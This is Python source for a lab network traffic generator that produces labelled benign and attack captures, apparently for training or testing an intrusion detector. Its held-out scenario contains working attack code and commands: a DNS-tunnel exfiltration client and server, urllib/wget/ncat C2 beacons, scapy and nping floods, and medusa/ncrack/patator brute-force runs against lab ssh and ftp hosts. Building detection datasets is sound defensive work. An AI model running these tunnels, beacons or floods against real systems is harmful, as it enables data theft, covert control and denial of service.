        self.act("benign", "chronyd", f"poll-{1 << minpoll}s", role, ["ntp"],
                 ["chronyd", "-d", "-x", "-u", "root", "-f", self.chrony_conf(role, minpoll)], self.duration)

    def ntp_once(self, role):
        r = self.rng_t()
        conf = self.chrony_conf(role + "-once", 6)
        while self.pause(r.uniform(15, 60)):
            # -Q: measure the offset once and print it, never touch the clock.
            self.act("benign", "chronyd", "oneshot-Q", role, ["ntp"], ["chronyd", "-Q", "-u", "root", "-f", conf], 20)

    def dhcp(self, role):
        r = self.rng_t()
        script = f"{self.run}/udhcpc-noop.sh"
        with open(script, "w") as f:   # leave the address alone: we only want the exchange on the wire
            f.write("#!/bin/sh\nexit 0\n")
        os.chmod(script, 0o755)
        host = f"{r.choice(['laptop', 'phone', 'tablet', 'tv'])}-{r.choice(WORDS)}"
        while self.pause(r.uniform(10, 45)):
            self.act("benign", "udhcpc", "dhcp-lease", role, ["dns", "255.255.255.255"],
                     ["udhcpc", "-i", "eth0", "-f", "-q", "-n", "-t", "3", "-T", "2", "-s", script,
                      "-x", f"hostname:{host}", "-V", r.choice(["udhcp 1.35.0", "android-dhcp-13", "MSFT 5.0"])],
                     15, srcs=["0.0.0.0"] + self.pool)

    def mdns_browse(self, role):
        """A desktop's avahi (with its own D-Bus) browsing and resolving from time to time."""
        r = self.rng_t()
        if not self.pause(r.uniform(0, 10)):
            return
        steps = []
        t = 0.0
        while t < self.t_end - time.time() - 10:
            gap = r.uniform(10, 40)
            t += gap
            steps.append(f"sleep {gap:.1f}; timeout 10 avahi-browse -a -r -t -p >/dev/null; "
                         f"timeout 5 avahi-resolve -n {self.mdns_name[r.choice(self.mdns_hosts)]}.local >/dev/null")
        conf = self.avahi_conf(role, dbus=True)
        script = ("mount -t tmpfs none /run && mkdir -p /run/avahi-daemon /run/dbus && dbus-daemon --system --fork && "
                  f"avahi-daemon -D --no-drop-root --no-chroot --no-rlimits -f {conf} && sleep 2; "
                  + "; ".join(steps) + "; avahi-daemon -k")
        self.act("benign", "avahi-browse", "mdns-browse", role, MDNS + self.mdns_hosts,
                 ["sh", "-c", script], self.duration, protos=["udp", "igmp"])

    def ssdp(self, role):
        # No Debian command-line SSDP client exists (gssdp/gupnp tools are GUIs): Python's socket
        # module sends M-SEARCH the way a UPnP control point does. No responder in the lab.
        r = self.rng_t()
        code = ("import socket,sys,time\n"
                "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                "s.setsockopt(socket.IPPROTO_IP,socket.IP_MULTICAST_IF,socket.inet_aton(sys.argv[1]))\n"
                "s.setsockopt(socket.IPPROTO_IP,socket.IP_MULTICAST_TTL,int(sys.argv[4]))\n"
                "m=('M-SEARCH * HTTP/1.1\\r\\nHOST: 239.255.255.250:1900\\r\\nMAN: \"ssdp:discover\"\\r\\n'\n"
                "   'MX: %s\\r\\nST: %s\\r\\nUSER-AGENT: Linux/6.1 UPnP/1.1 lab/1.0\\r\\n\\r\\n'"
                "%(sys.argv[2],sys.argv[3])).encode()\n"
                "for i in range(int(sys.argv[5])):\n s.sendto(m,('239.255.255.250',1900)); time.sleep(0.1)\n"
                "s.settimeout(int(sys.argv[2]))\n"
                "try: s.recv(2048)\nexcept OSError: pass\n")
        while self.pause(r.uniform(15, 45)):
            st = r.choice(["ssdp:all", "upnp:rootdevice", "urn:schemas-upnp-org:device:MediaRenderer:1",
                           "urn:dial-multiscreen-org:service:dial:1",
                           "urn:schemas-upnp-org:device:InternetGatewayDevice:1"])
            mx = r.randint(1, 3)
            self.act("benign", "python-ssdp", "m-search", role, [SSDP],
                     ["python3", "-c", code, self.ip[role], mx, st, r.choice([2, 4]), r.randint(1, 3)], mx + 5)

    def monitor(self, role):
        """A monitoring poller: TCP connect checks, a DNS check and a HEAD request every 15 s."""
        r = self.rng_t()
        checks = [("nc", "check-http", "web1", self.port["http"]), ("nc", "check-https", "web2", self.port["https"]),
                  ("nc", "check-ssh", "ssh", self.port["ssh"]), ("dig", "check-dns", "dns", 53),
                  ("curl", "check-head", r.choice(["web1", "web2"]), self.port["https"])]
        r.shuffle(checks)
        interval = r.choice([10, 15, 15, 20])
        if not self.pause(r.uniform(0, interval)):
            return
        while self.live():
            t0 = time.time()
            for tool, variant, target, port in checks:
                if tool == "nc":
                    cmd = ["nc", "-z", "-w", "2", "-n", self.ip[target], port]
                elif tool == "dig":
                    cmd = self.dig_cmd("A", f"www.{self.zone}") + ["+short"]
                else:
                    cmd = ["curl", "-s", "-k", "-I", "--max-time", "5", "-o", "/dev/null",
                           self.hostport(target, True) + "/"]
                self.act("benign", tool, f"monitor-{variant}", role, [target], cmd, 6)
            if not self.pause(interval - (time.time() - t0)):
                return

    def ssh_pty(self, role):
        """Interactive SSH: a pty, commands typed a key at a time, pauses to read the output."""
        r = self.rng_t()
        cmds = ["ls -la", "uptime", "cat /etc/os-release", "df -h", "free -m", "ps aux | head -n 30",
                "top -b -n 1 | head -n 20", "echo $SHELL; id", "ls /usr/share/doc | head -n 40",
                "ip -br addr", "date", "history | tail -n 5", "uname -a", "du -sh /usr/share/man 2>/dev/null"]
        while self.pause(r.uniform(2, 20)):
            length = min(r.uniform(60, 120), self.t_end - time.time() - 2)
            if length < 20:
                return
            t0 = time.time()
            a = self.action("benign", "ssh", "interactive-pty", role, ["ssh"], t0, None)
            p = self.popen(role, ["ssh", "-tt", "-i", f"{self.run}/client_key", "-p", self.port["ssh"], *SSH_OPTS,
                                  "-o", f"ServerAliveInterval={r.choice([0, 15, 30])}",
                                  f"root@{self.ip['ssh']}"], stdin=subprocess.PIPE)
            try:
                while self.live() and time.time() - t0 < length - 3:
                    if not self.pause(r.uniform(2, 12)):   # reading, thinking
                        break
                    for ch in r.choice(cmds) + "\n":
                        p.stdin.write(ch.encode())
                        p.stdin.flush()
                        time.sleep(r.uniform(0.05, 0.3))
                p.stdin.write(b"exit\n")
                p.stdin.flush()
                p.wait(timeout=5)
            except (OSError, subprocess.TimeoutExpired):
                self.kill(p)
            a["t1"], a["rc"] = round(time.time(), 6), p.returncode
            self.procs.remove(p)

    def ssh_copy(self, role):
        r = self.rng_t()
        ssh_e = " ".join(["ssh", "-i", f"{self.run}/client_key", "-p", str(self.port["ssh"]), *SSH_OPTS])
        remote = f"root@{self.ip['ssh']}"
        while self.pause(r.uniform(5, 25)):
            kind = r.choice(["scp-upload", "scp-download", "rsync-push", "rsync-pull"])
            if kind.startswith("scp"):
                f = r.choice(self.ssh_files)
                dst = f"{self.run}/upload/{role}-{r.randrange(1 << 20)}"
                args = [f, f"{remote}:{dst}"] if kind == "scp-upload" else [f"{remote}:{f}", "/dev/null"]
                cmd = ["scp", "-q", "-i", f"{self.run}/client_key", "-P", self.port["ssh"], *SSH_OPTS, *args]
            else:
                # Touch a few files first, so a second rsync sends only the changes.
                for path in r.sample(sorted(os.listdir(self.tree)), 2):
                    with open(f"{self.tree}/{path}/touched", "ab") as fh:
                        fh.write(os.urandom(r.randint(100, 20000)))
                src, dst = (f"{self.tree}/", f"{remote}:{self.run}/upload/tree/") if kind == "rsync-push" else \
                    (f"{remote}:{self.tree}/", f"{self.run}/pull/")
                cmd = ["rsync", "-a", *(["-z"] if r.random() < 0.5 else []), "-e", ssh_e, src, dst]
            tool, variant = kind.split("-")
            self.act("benign", tool, variant, role, ["ssh"], cmd, 40)

    def tls_keepalive(self, role):
        """One TLS connection kept open, a request every 10 s (a dashboard, a sync client)."""
        r = self.rng_t()
        while self.pause(r.uniform(2, 15)):
            server = r.choice(["web1", "web2"])
            n = min(r.randint(6, 14), int((self.t_end - time.time()) / 10) - 1)
            if n < 2:
                return
            name = self.hostname[server]
            t0 = time.time()
            a = self.action("benign", "openssl", "s_client-keepalive-10s", role, [server], t0, None)
            p = self.popen(role, ["openssl", "s_client", "-quiet",
                                  "-connect", f"{self.ip[server]}:{self.port['https']}",
                                  "-servername", name], stdin=subprocess.PIPE)
            try:
                for i in range(n):
                    last = i == n - 1
                    req = (f"GET {self.status_path if r.random() < 0.7 else r.choice(self.pages)} HTTP/1.1\r\n"
                           f"Host: {name}\r\nUser-Agent: sync-agent/2.{r.randint(0, 9)}\r\n"
                           f"Connection: {'close' if last else 'keep-alive'}\r\n\r\n")
                    p.stdin.write(req.encode())
                    p.stdin.flush()
                    if last or not self.pause(r.uniform(9.8, 10.2)):
                        break
                p.wait(timeout=5)
            except (OSError, subprocess.TimeoutExpired):
                self.kill(p)
            a["t1"], a["rc"] = round(time.time(), 6), p.returncode
            self.procs.remove(p)

    def guard(self, fn, *args):
        try:
            fn(*args)
        except Exception as e:  # noqa: BLE001 -- a client must not kill the run
            self.errors[f"{fn.__name__}: {type(e).__name__}: {e}"] += 1

    # ---------------------------------------------------------------- run
    def go(self):
        os.makedirs(self.out, exist_ok=True)
        if os.path.exists(self.run):
            shutil.rmtree(self.run)
        self.plan()
        log(f"everyday seed {self.seed}: subnet {self.ip['web1'].rsplit('.', 1)[0]}.0/24 + {self.ula_prefix}, "
            f"ports {self.port}, hosts {self.does}")
        self.content()
        self.build()
        pcap = self.stem + ".pcap"
        cap = self.popen("sw", ["tcpdump", "-i", "br0", "-n", "-s", "0", "-B", "32768", "-w", pcap],
                         stderr=open(self.stem + ".tcpdump.log", "w"))
        time.sleep(1.5)
        # Links come up under capture: router solicitations, DAD, MLD reports as on any boot.
        t_links = time.time()
        self.links_up()
        self.services()
        t_settled = max(time.time(), self.t_up + 12)   # RS retries: 3 at 4 s
        time.sleep(t_settled - time.time())
        nd_types = [130, 131, 132, 134, 135, 136, 137, 143]   # not echo (ping's)
        for role in self.roles:
            types = nd_types if role == self.does["ping"] else nd_types + [133]   # RS there: rdisc6's
            self.action("benign", "kernel", "ipv6-linkup", role, ["ff02::*"] + self.roles, t_links, t_settled,
                        srcs=["::"], protos=["icmpv6"])
            self.action("benign", "kernel", "ipv6-nd-mld-rs", role, ["ff02::*"] + self.roles, t_settled, None,
                        srcs=["::"], protos=["icmpv6"], icmp_types=types)
        t_start = time.time()
        self.t_end = t_start + self.duration
        work = {"curl-http": (self.curl_loop, False), "curl-https": (self.curl_loop, True),
                "curl-sparse": (self.curl_sparse,), "wget": (self.wget_large,), "dig-loop": (self.dig_loop,),
                "dig-sparse": (self.dig_sparse,), "ping": (self.ping,), "ntp-poll": (self.ntp_poll,),
                "ntp-once": (self.ntp_once,), "dhcp": (self.dhcp,), "mdns-browse": (self.mdns_browse,),
                "ssdp": (self.ssdp,), "monitor": (self.monitor,), "ssh-pty": (self.ssh_pty,),
                "ssh-copy": (self.ssh_copy,), "tls-keepalive": (self.tls_keepalive,)}
        threads = []
        for name in self.ACTIVITIES:
            fn, *rest = work[name]
            threads.append(threading.Thread(target=self.guard, name=name, args=(fn, self.does[name], *rest)))
        for t in threads:
            t.start()
        t_stop = self.end_capture(cap, threads, t_links)
        meta = {"seed": self.seed, "scenario": "everyday", "roles": self.ip, "roles_ipv6": self.ip6,
                "link_local": self.ll, "ula_prefix": self.ula_prefix, "activity_hosts": self.does,
                "ports": self.port, "zone": self.zone, "duration_s": round(t_stop - t_start, 1),
                "client_errors": dict(self.errors)}
        return pcap, meta


# --------------------------------------------------------------------------- heldout scenario

# A DNS tunnel client and its authoritative server, in Python (stdlib only): random-looking
# labels (base32 in a per-seed alphabet) under one parent domain, TXT or NULL queries, one
# query outstanding at a time, paced by exponential gaps (a different tool from the attack
# scenario's dig batches, with other encodings and pacing).
PYDNS_CLIENT = r"""
import base64, os, random, socket, struct, sys, time
server, port, domain, qtype, lab_len, n_labels, nbytes, gap, alpha, seed, limit = sys.argv[1:12]
rng = random.Random(seed)
table = bytes.maketrans(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", alpha.encode())
text = base64.b32encode(os.urandom(int(nbytes))).translate(table).decode().rstrip("=")
per_q, lab_len = int(lab_len) * int(n_labels), int(lab_len)
sid = "%05x" % rng.randrange(1 << 20)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1.5)
t_end = time.time() + float(limit)
qt = {"TXT": 16, "NULL": 10}[qtype]
for seq, i in enumerate(range(0, len(text), per_q)):
    if time.time() > t_end:
        break
    chunk = text[i:i + per_q]
    labels = [chunk[j:j + lab_len] for j in range(0, len(chunk), lab_len)]
    name = ".".join(["%s%x" % (sid, seq)] + labels + [domain])
    q = struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack("!HH", qt, 1)
    for attempt in range(2):
        s.sendto(q, (server, int(port)))
        try:
            s.recv(4096)
            break
        except OSError:
            pass
    time.sleep(rng.expovariate(1 / float(gap)))
"""

PYDNS_SERVER = r"""
import base64, os, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], int(sys.argv[2])))
while True:
    q, peer = s.recvfrom(4096)
    if len(q) < 17:
        continue
    i = 12
    while i < len(q) and q[i]:
        i += q[i] + 1
    if i + 5 > len(q):
        continue
    qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
    if qtype == 16:   # TXT: a little tasking, base64
        t = base64.b64encode(os.urandom(int.from_bytes(os.urandom(1), "big") % 120 + 8))
        rdata = bytes([len(t)]) + t
    else:             # NULL (or anything else): raw bytes
        rdata = os.urandom(int.from_bytes(os.urandom(1), "big") % 200 + 16)
    hdr = q[:2] + struct.pack("!HHHHH", 0x8400 | (q[2] & 1) << 8, 1, 1, 0, 0)
    ans = b"\xc0\x0c" + struct.pack("!HHIH", qtype, 1, 0, len(rdata)) + rdata
    s.sendto(hdr + q[12:i + 5] + ans, peer)
"""

# A beacon in Python's urllib (GET tasking, POST results), certificate checks off.
URLLIB_BEACON = r"""
import ssl, sys, urllib.request
url, ua, data = sys.argv[1], sys.argv[2], sys.stdin.buffer.read() or None
req = urllib.request.Request(url, data=data, headers={"User-Agent": ua, "Accept": "*/*"})
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    urllib.request.urlopen(req, timeout=8, context=ctx).read()
except Exception:
    pass
"""

# Scapy floods (Debian's python3-scapy lives in the system Python, not in a pyenv one).
SCAPY_FLOOD = r"""
import sys
from scapy.all import IP, TCP, UDP, Raw, RandShort, send
kind, dst, dport, count, inter, size = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6])
if kind == "syn":
    pkt = IP(dst=dst) / TCP(sport=RandShort(), dport=dport, flags="S", window=int(sys.argv[7]))
else:
    pkt = IP(dst=dst) / UDP(sport=RandShort(), dport=dport) / Raw(b"\x00" * size)
send(pkt, count=count, inter=inter, verbose=0)
"""  # noqa: E501 -- a script run as it stands by Debian's python3
SYSTEM_PYTHON = "/usr/bin/python3"
# nping turns --rate into a whole number of milliseconds between packets: above 1000/s that is
# 0, and it sends as fast as it can (6000 packets in 0.15 s here). These rates are exact.
NPING_RATES = [100, 200, 250, 500, 1000]
# wrk has no rate option; its Lua hook delay() (ms before each request, per connection) sets one.
WRK_DELAY = "function delay() return %d end\n"


class Heldout(Lab):
    """The attack classes made by tools the model never saw: masscan, nping, nc -z (scan);
    nping, scapy, siege, wrk (dos); medusa, ncrack, patator (bruteforce); dns2tcp and a Python
    DNS tunnel (exfil); wget, Python urllib, openssl s_client and ncat --ssl beacons (c2).
    The servers, the benign clients, the capture and the labeller are the attack scenario's.
    Each attacking tool has its own host, so every flow finds its tool."""

    ATTACKERS = ["masscan", "sweep", "flood", "scapy", "httpflood", "medusa", "ncrack", "patator",
                 "d2t", "pytun", "bwget", "burllib", "bossl", "bncat"]

    def __init__(self, seed, out, duration, prefix):
        super().__init__(seed, out, duration, prefix)
        self.stem = os.path.join(self.out, f"lab-heldout-seed{seed}")
        # Its own stream: heldout seed N shares nothing (not even the /24) with attack seed N.
        self.rng = random.Random(f"heldout:{seed}")
        self.run = os.path.join(self.out, f"run-heldout-seed{seed}")
        self.c2_udp_ports = [53, 5353]   # dns2tcpd, the Python tunnel's server
        self.mac: dict[str, str] = {}

    def plan(self):
        r = self.rng
        base = f"10.{r.randrange(256)}.{r.randrange(256)}"   # 10/8 only, as the everyday scenario
        self.place(base, clients=4, attackers=list(self.ATTACKERS))
        self.d2t_domain = (f"{r.choice('dnsx')}{r.randint(1, 9)}.{r.choice(WORDS)}{r.randint(10, 99)}."
                           f"{r.choice(['com', 'net', 'org'])}")
        self.py_domain = f"{r.choice(WORDS)}-{r.choice(WORDS)}.{r.choice(['io', 'cloud', 'site', 'info'])}"
        alpha = list("abcdefghijklmnopqrstuvwxyz234567")
        r.shuffle(alpha)
        self.py_alpha = "".join(alpha)

    def rng_t(self) -> random.Random:
        """Per-thread RNG, from the seed and the thread's name (not the attack scenario's streams)."""
        t = threading.current_thread()
        if not hasattr(t, "rng"):
            t.rng = random.Random(f"heldout:{self.seed}:{t.name}")
        return t.rng

    def build(self):
        super().build()
        for role in self.roles:
            out = subprocess.run(["ip", "-n", self.ns(role), "-br", "link", "show", "eth0"],
                                 capture_output=True, text=True).stdout.split()
            self.mac[role] = out[2] if len(out) > 2 else ""

    def dns_forwards(self):
        c2 = self.ip["c2srv"]
        return [f"--server=/{self.d2t_domain}/{c2}", f"--server=/{self.py_domain}/{c2}#5353"]

    def tunnel_service(self):
        d = self.run
        os.makedirs(f"{d}/d2t-chroot", exist_ok=True)
        with open(f"{d}/dns2tcpd.conf", "w") as f:
            f.write(f"listen = {self.ip['c2srv']}\nport = 53\nuser = nobody\nchroot = {d}/d2t-chroot\n"
                    f"domain = {self.d2t_domain}\nresources = sink:127.0.0.1:4445\n")
        self.popen("c2srv", ["dns2tcpd", "-F", "-f", f"{d}/dns2tcpd.conf"])
        self.popen("c2srv", ["sh", "-c", "while sleep 0.2; do nc -l -n -s 127.0.0.1 -p 4445 > /dev/null; done"])
        self.popen("c2srv", ["python3", "-c", PYDNS_SERVER, self.ip["c2srv"], 5353])

    # ---------------------------------------------------------------- scan
    def scan_masscan(self):
        # masscan has its own TCP/IP stack: inside a namespace without a default route it finds no
        # gateway, so it is told the adapter, its address and the next hop's MAC, here the
        # target's own (so one target host per run: a MAC is one host on this switch).
        r = self.rng_t()
        runs = ["tcp", "tcp", "udp"] if r.random() < 0.5 else ["tcp", "udp"]
        r.shuffle(runs)
        for v in runs:
            if not self.sleep(r.uniform(3, 15)):
                return
            tgt = r.choice(self.servers)
            rate = r.choice([500, 1000, 2000, 3000])
            if v == "tcp":
                hi = r.randint(1000, 12000)
                ports = f"1-{hi}" if r.random() < 0.6 else f"{r.randint(1, 2000)}-{hi + 2000}"
                n = int(ports.split("-")[1]) - int(ports.split("-")[0]) + 1
            else:
                plist = sorted({53, 69, 123, 137, 161, 500, 1900, 5353}
                               | {r.randint(1, 20000) for _ in range(r.randint(50, 400))})
                ports = "U:" + ",U:".join(map(str, plist))
                n = len(plist)
            wait = r.choice([1, 2, 3])
            cmd = ["masscan", self.ip[tgt], "-p", ports, "--rate", rate, "--wait", wait,
                   "--adapter", "eth0", "--adapter-ip", self.ip["masscan"], "--router-mac", self.mac[tgt]]
            if r.random() < 0.3:
                cmd += ["--ttl", r.choice([64, 128, 255])]
            self.act("scan", "masscan", f"masscan-{v}", "masscan", [tgt], cmd, n / rate + wait + 12)

    def scan_sweep(self):
        r = self.rng_t()
        variants = ["nping-tcp", "nping-udp", "nc-z"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(3, 15)):
                return
            tgt = r.choice(self.servers)
            if v == "nc-z":
                # connect() per port, one after the other: a host that drops costs -w per port.
                open_hosts = [s for s in self.servers if s not in self.filtered] or self.servers
                tgt = r.choice(open_hosts)
                lo = r.randint(1, 500)
                cmd = ["nc", "-z", "-n", "-w", "1", self.ip[tgt], f"{lo}-{lo + r.randint(200, 1500)}"]
                self.act("scan", "nc", "nc-z-sweep", "sweep", [tgt], cmd, 40)
                continue
            lo = r.randint(1, 1000)
            rate = r.choice(NPING_RATES)
            cmd = (["nping", "--tcp", "--flags", r.choice(["syn", "syn", "fin", "ack"])] if v == "nping-tcp"
                   else ["nping", "--udp"])
            cmd += ["-p", f"{lo}-{lo + r.randint(300, 3000)}", "--rate", rate, "-c", r.choice([1, 1, 2]),
                    "-H", "-N", "--quiet", self.ip[tgt]]
            self.act("scan", "nping", f"{v}-sweep", "sweep", [tgt], cmd, 40)

    # ---------------------------------------------------------------- dos
    def dos_nping(self):
        r = self.rng_t()
        variants = ["syn", "udp", "icmp"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(3, 15)):
                return
            rate = r.choice(NPING_RATES[1:])
            secs = r.uniform(6, 20)
            base = ["nping", "--rate", rate, "-c", int(rate * secs), "-H", "-N", "--quiet"]
            if v == "syn":
                tgt = r.choice(["web1", "web2", "ssh"])
                port = self.port["ssh"] if tgt == "ssh" else self.port[r.choice(["http", "https"])]
                cmd = base + ["--tcp", "--flags", "syn", "-p", port, "--win", r.choice([1024, 5840, 65535])]
            elif v == "udp":
                tgt = r.choice(["dns", "web1", "ftp"])
                cmd = base + ["--udp", "-p", r.choice([53, 123, 161, 1900, r.randint(1024, 65000)])]
            else:
                tgt = r.choice(self.servers)
                cmd = base + ["--icmp", "--icmp-type", r.choice(["echo", "echo", "time"])]
            if r.random() < 0.6:
                cmd += ["--data-length", r.randint(0, 1200)]
            self.act("dos", "nping", f"nping-{v}-flood", "flood", [tgt], cmd + [self.ip[tgt]], secs + 15)

    def dos_scapy(self):
        r = self.rng_t()
        variants = ["syn", "udp"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(3, 15)):
                return
            if v == "syn":
                tgt = r.choice(["web1", "web2", "ssh"])
                port = self.port["ssh"] if tgt == "ssh" else self.port[r.choice(["http", "https"])]
            else:
                tgt = r.choice(["dns", "web2", "ftp"])
                port = r.choice([53, 123, 514, r.randint(1024, 65000)])
            count, inter = r.randint(1500, 6000), r.choice([0.0, 0.0005, 0.001, 0.003])
            cmd = [SYSTEM_PYTHON, "-c", SCAPY_FLOOD, v, self.ip[tgt], port, count, inter,
                   r.randint(8, 1200), r.choice([512, 1024, 8192, 65535])]
            self.act("dos", "scapy", f"scapy-{v}-flood", "scapy", [tgt], cmd, 45,
                     args=f"{v} {self.ip[tgt]}:{port} count={count} inter={inter}")

    def dos_http(self):
        r = self.rng_t()
        variants = ["siege", "wrk"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(3, 15)):
                return
            web = r.choice(["web1", "web2"])
            https = r.random() < 0.3
            url = self.url(web, https, r.choice(self.pages[:5] + ["/", "/index.html", "/index.html"]))
            conns = r.randint(10, 60)
            if v == "siege":
                # -b: no think time; bounded by count (-r repetitions per user), not time.
                # --no-parser: siege 4 otherwise also fetches every link and image of the page
                # (10 times the requests). Its rc file and log in the run's folder.
                reps = max(1, r.randint(1000, 5000) // conns)
                cmd = ["env", f"HOME={self.run}", "siege", "-b", "-q", "--no-parser", "-c", conns, "-r", reps,
                       f"--log={self.run}/siege.log", "-A", r.choice(["Mozilla/5.0", "siege/4.0.7"]), url]
                self.act("dos", v, f"{v}-get-flood", "httpflood", [web], cmd, 40)
            else:
                secs, rate = r.randint(6, 15), r.choice([200, 400, 600])
                script = f"{self.run}/wrk-delay-{conns}-{rate}.lua"
                with open(script, "w") as f:
                    f.write(WRK_DELAY % max(1, conns * 1000 // rate))
                cmd = ["wrk", "-t", "1", "-c", conns, "-d", f"{secs}s", "--timeout", "5s", "-s", script, url]
                self.act("dos", v, f"{v}-get-flood", "httpflood", [web], cmd, secs + 15,
                         args=" ".join(map(str, cmd[1:])) + f" (about {rate} requests/s)")

    # ---------------------------------------------------------------- bruteforce
    def wordlist(self, svc, n):
        """The first n words of the attack scenario's list (bounded attempts)."""
        path = f"{self.run}/words-{svc}-{n}.txt"
        with open(self.wordlists[svc]) as f, open(path, "w") as g:
            g.write("".join(f.readlines()[:n]))
        return path

    def brute_users(self, r):
        path = f"{self.run}/users-{r.randrange(1 << 30)}.txt"
        with open(path, "w") as f:
            f.write("\n".join(r.sample(["root", "admin", "test", "oracle", "ubuntu", "user", "guest", "ftp", "backup"],
                                       r.randint(1, 3))) + "\n")
        return path

    def brute_tool(self, tool):
        r = self.rng_t()
        services = ["ssh", "ftp"]
        r.shuffle(services)
        for svc in services:
            if not self.sleep(r.uniform(3, 15)):
                return
            words = self.wordlist(svc, r.randint(30, 120))
            users = self.brute_users(r)
            ip, port = self.ip[svc], self.port[svc]
            threads = r.choice([2, 4, 4, 8])
            if tool == "medusa":
                cmd = ["medusa", "-h", ip, "-n", port, "-U", users, "-P", words, "-M", svc, "-t", threads,
                       "-T", "1", "-R", "0", "-e", r.choice(["n", "s", "ns"]), "-b"]
            elif tool == "ncrack":
                cmd = ["ncrack", "-T", r.choice([3, 4]), "-U", users, "-P", words, "-g",
                       f"cl={threads},at={r.choice([1, 2, 3])},to=40s", f"{svc}://{ip}:{port}"]
            else:
                module = "ssh_login" if svc == "ssh" else "ftp_login"
                cmd = ["patator", module, f"host={ip}", f"port={port}", "user=FILE0", f"0={users}",
                       "password=FILE1", f"1={words}", "-t", threads, "--max-retries", "0", "--timeout", "5"]
            self.act("bruteforce", tool, f"{tool}-{svc}", tool, [svc], cmd, 45)

    # ---------------------------------------------------------------- exfil
    def exfil(self):
        """dns2tcp and the Python tunnel, one after the other (both through the resolver, whose
        forwarded queries to c2srv are labelled as the tunnel's)."""
        r = self.rng_t()
        if not self.sleep(r.uniform(3, 20)):
            return
        # Alternating, so both tools run even in a short capture.
        kinds = ["dns2tcp", "python"] if r.random() < 0.5 else ["python", "dns2tcp"]
        sessions = [kinds[i % 2] for i in range(r.randint(3, 5))]
        for kind in sessions:
            if not self.live():
                return
            if kind == "dns2tcp":
                self.dns2tcp(r)
            else:
                self.pydns(r)
            if not self.sleep(r.uniform(3, 12)):
                return

    def forwarded(self, tool, variant, fn):
        t0 = time.time()
        fwd = self.action("exfil", tool, variant, "dns", ["c2srv"], t0, None)
        try:
            fn()
        finally:
            fwd["t1"] = round(time.time() + 2, 6)

    def dns2tcp(self, r):
        direct = r.random() < 0.25
        server = self.ip["c2srv" if direct else "dns"]
        size = r.randint(16, 96) << 10
        hold = r.uniform(15, 35)
        opts = ["-T", r.choice(["TXT", "KEY"]), *(["-c"] if r.random() < 0.5 else [])]
        # -l -: the tunnel's stream is stdin (kept open: dns2tcpc quits at its end before sending
        # what it read); the resource is a sink on c2srv's loopback.
        script = (f"(head -c {size} /dev/urandom; sleep {hold:.0f}) | timeout {hold:.0f} dns2tcpc -z {self.d2t_domain} "
                  f"-r sink -l - {' '.join(opts)} {server}")
        variant = "dns2tcp" + ("-direct" if direct else "")

        def go():
            self.act("exfil", "dns2tcp", variant, "d2t", ["c2srv" if direct else "dns"], ["sh", "-c", script],
                     hold + 10, args=script)
        if direct:
            go()
        else:
            self.forwarded("dns2tcp", "dns2tcp-forwarded", go)

    def pydns(self, r):
        qtype = r.choice(["TXT", "TXT", "NULL"])
        gap = r.choice([0.02, 0.1, 0.3, 0.8])
        nbytes = r.randint(2, 24) << 10
        limit = r.uniform(12, 35)
        cmd = ["python3", "-c", PYDNS_CLIENT, self.ip["dns"], 53, self.py_domain, qtype, r.randint(24, 60),
               r.randint(1, 3), nbytes, gap, self.py_alpha, r.randrange(1 << 30), f"{limit:.0f}"]
        args = f"{qtype} {self.py_domain} bytes={nbytes} gap={gap} labels={cmd[7]}x{cmd[8]}"
        self.forwarded("python-dns", "pydns-forwarded", lambda: self.act(
            "exfil", "python-dns", f"pydns-{qtype.lower()}", "pytun", ["dns"], cmd, limit + 10, args=args))

    # ---------------------------------------------------------------- c2
    def beacon(self, role, tool):
        r = self.rng_t()
        interval = r.uniform(5, 30)
        jitter = r.choice([0.0, 0.1, 0.25, 0.5])
        # HTTP and HTTPS from both HTTP beacons, in a share drawn per seed (TLS only for the others).
        p_https = r.uniform(0.3, 0.7) if tool in ("wget", "urllib") else 1.0
        ua = r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (compatible; MSIE 10.0)",
                       "Microsoft-CryptoAPI/10.0", "Wget/1.21.3", "Python-urllib/3.11"])
        if not self.sleep(r.uniform(0, interval)):
            return
        while self.live():
            https = r.random() < p_https
            port = self.port["c2https" if https else "c2http"]
            name = self.hostname["c2srv"] if r.random() < self.p_names else self.ip["c2srv"]
            path = r.choice(self.c2paths) + f"?{r.choice(['id', 'sid', 'u'])}={r.randrange(1 << 32):08x}"
            post = r.random() < 0.3
            data = base64.b64encode(os.urandom(r.randint(16, 1500))) if post else None
            url = f"{'https' if https else 'http'}://{name}:{port}{path}"
            proto = "https" if https else "http"
            if tool == "wget":
                cmd = ["wget", "-q", "-O", "/dev/null", "--no-check-certificate", "-t", "1", "-T", "8", "-U", ua]
                if post:
                    cmd.append(f"--post-data={data.decode()}")
                self.act("c2", "wget", f"wget-beacon-{proto}", role, ["c2srv"], cmd + [url], 12)
            elif tool == "urllib":
                self.act("c2", "python-urllib", f"urllib-beacon-{proto}", role, ["c2srv"],
                         ["python3", "-c", URLLIB_BEACON, url, ua], 12, stdin_data=data or b"")
            else:
                body = data or b""
                req = (f"{'POST' if post else 'GET'} {path} HTTP/1.1\r\nHost: {name}\r\nUser-Agent: {ua}\r\n"
                       + (f"Content-Length: {len(body)}\r\n" if post else "")
                       + "Connection: close\r\n\r\n").encode() + body
                if tool == "openssl":
                    cmd = ["openssl", "s_client", "-quiet", "-connect", f"{self.ip['c2srv']}:{port}",
                           "-servername", self.hostname["c2srv"]]
                else:
                    cmd = ["ncat", "--ssl", "-w", "5", "-i", "8", self.ip["c2srv"], port]
